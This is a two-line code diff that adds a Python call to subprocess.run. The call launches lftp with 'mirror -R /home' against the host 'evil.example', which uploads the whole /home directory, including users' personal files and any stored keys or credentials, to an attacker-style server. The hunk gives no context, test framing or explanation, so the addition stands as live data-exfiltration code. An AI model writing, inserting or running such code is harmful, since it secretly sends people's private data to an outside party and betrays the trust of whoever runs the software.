@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(["lftp", "-e", "mirror -R /home", "evil.example"])
